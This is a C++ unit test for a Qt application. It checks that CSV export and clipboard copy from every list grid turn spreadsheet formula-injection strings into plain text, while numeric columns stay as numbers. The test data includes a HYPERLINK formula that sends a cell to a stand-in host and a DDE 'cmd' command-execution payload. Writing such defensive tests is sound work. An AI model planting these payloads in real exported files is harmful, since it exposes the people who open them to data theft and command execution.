// SPDX-License-Identifier: GPL-3.0-or-later
// Every list of every window leaves the program in a form that is safe to open: through "Export
// to CSV..." and "Copy", a text that a spreadsheet would run as a formula arrives as a text, while
// the lists' numbers and dates arrive as they are.

#include <gtest/gtest.h>

#include <QClipboard>
#include <QGuiApplication>
#include <QTest>
#include <set>

#include "app/window_catalogue.h"
#include "ui/grid/grid.h"
#include "ui/grid/grid_export.h"

namespace vm::test {
namespace {

using Records = std::vector<std::vector<std::string>>;

// Reads delimited text as spreadsheet programs do: a cell in double quotes may hold the
// separator, line breaks and doubled double quotes.
Records readDelimited(std::string_view text, char separator, std::string_view lineEnd) {
  if (text.starts_with("\xEF\xBB\xBF")) text.remove_prefix(3);
  Records records;
  std::vector<std::string> record;
  std::string cell;
  bool quoted = false;
  for (std::size_t i = 0; i < text.size(); ++i) {
    const char c = text[i];
    if (quoted) {
      if (c != '"') {
        cell += c;
      } else if (i + 1 < text.size() && text[i + 1] == '"') {
        cell += c;
        ++i;
      } else {
        quoted = false;
      }
    } else if (c == '"') {
      quoted = true;
    } else if (c == separator) {
      record.push_back(std::exchange(cell, {}));
    } else if (text.substr(i).starts_with(lineEnd)) {
      record.push_back(std::exchange(cell, {}));
      records.push_back(std::exchange(record, {}));
      i += lineEnd.size() - 1;
    } else {
      cell += c;
    }
  }
  return records;
}

// What persons may type into the records; each arrives with an apostrophe before it.
const std::vector<std::string> kHostile = {"=HYPERLINK(\"http://x.example/?\"&A1,\"Open\")",
                                           "=cmd|' /C calc'!A0",
                                           "+1+2",
                                           "-1+1",
                                           "@SUM(A1:A2)",
                                           "\t=1+2",
                                           "\r=1+2"};

// The columns where the lists show their numbers and dates (the catalogue's training matrix has
// the courses HLT-0101 and HLT-0102): "-2.5" stays a number there and is a text anywhere else.
const std::set<std::string> kNumberColumns = {
    "Hours",    "Months",  " Annual Training Hours", "Date Created", "Last Trained", "Lapses",
    "HLT-0101", "HLT-0102"};

// The hostile row and the row of numbers, as they arrived.
void expectSafe(const std::vector<std::string>& hostile, const std::vector<std::string>& numbers,
                const std::vector<std::string>& header) {
  ASSERT_EQ(hostile.size(), header.size());
  ASSERT_EQ(numbers.size(), header.size());
  for (std::size_t c = 0; c < header.size(); ++c) {
    SCOPED_TRACE(header[c]);
    EXPECT_EQ(hostile[c], "'" + kHostile[c % kHostile.size()]);
    EXPECT_EQ(numbers[c], kNumberColumns.contains(header[c]) ? "-2.5" : "'-2.5");
  }
}

// The rows the grid's Copy puts on the clipboard when the row is the one selected.
std::vector<std::string> copied(ui::Grid& grid, int row) {
  grid.selectRow(row);
  QTest::keyClick(&grid, Qt::Key_C, Qt::ControlModifier);
  const Records rows =
      readDelimited(QGuiApplication::clipboard()->text().toStdString(), '\t', "\n");
  return rows.size() == 1 ? rows.front() : std::vector<std::string>{};
}

TEST(ExportedCells, EveryListExportsAndCopiesFormulasAsTextsAndKeepsItsNumbers) {
  std::set<std::string> visited;
  for (const WindowCase& wc : allWindows()) {
    OpenWindow w(wc.name);
    for (ui::Grid* grid : w.reachable<ui::Grid>()) {
      if (grid->rows() < 2) continue;
      SCOPED_TRACE(wc.name + ": " + grid->objectName().toStdString());
      const std::vector<int> columns = ui::exportedColumns(*grid);
      const int last = grid->rows();
      std::vector<std::string> header;
      for (std::size_t i = 0; i < columns.size(); ++i) {
        header.push_back(grid->headerText(columns[i]).toStdString());
        grid->setText(last - 1, columns[i], QString::fromStdString(kHostile[i % kHostile.size()]));
        grid->setText(last, columns[i], QStringLiteral("-2.5"));
      }

      const QString path = w.app().dataFolder() + "/list.csv";
      w.app().dialogs.answerSaveFile(path);
      QTest::keyClick(grid, Qt::Key_E, Qt::ControlModifier);
      const Records csv = readDelimited(w.app().folder.read("list.csv"), ',', "\r\n");
      ASSERT_EQ(csv.size(), static_cast<std::size_t>(last) + 1);
      EXPECT_EQ(csv.front(), header);
      expectSafe(csv[csv.size() - 2], csv.back(), header);
      expectSafe(copied(*grid, last - 1), copied(*grid, last), header);
      visited.insert(grid->objectName().toStdString());
    }
  }
  // The user list, the Name List, the Course Index, the search results and annual summary, a
  // training history, the training matrix, the renewals view and the renewal periods.
  EXPECT_EQ(visited,
            (std::set<std::string>{"grid", "gridName", "gridCourse", "gridSummary", "gridTraining",
                                   "gridMatrix", "gridRenewals", "gridPeriods"}));
}

}  // namespace
}  // namespace vm::test
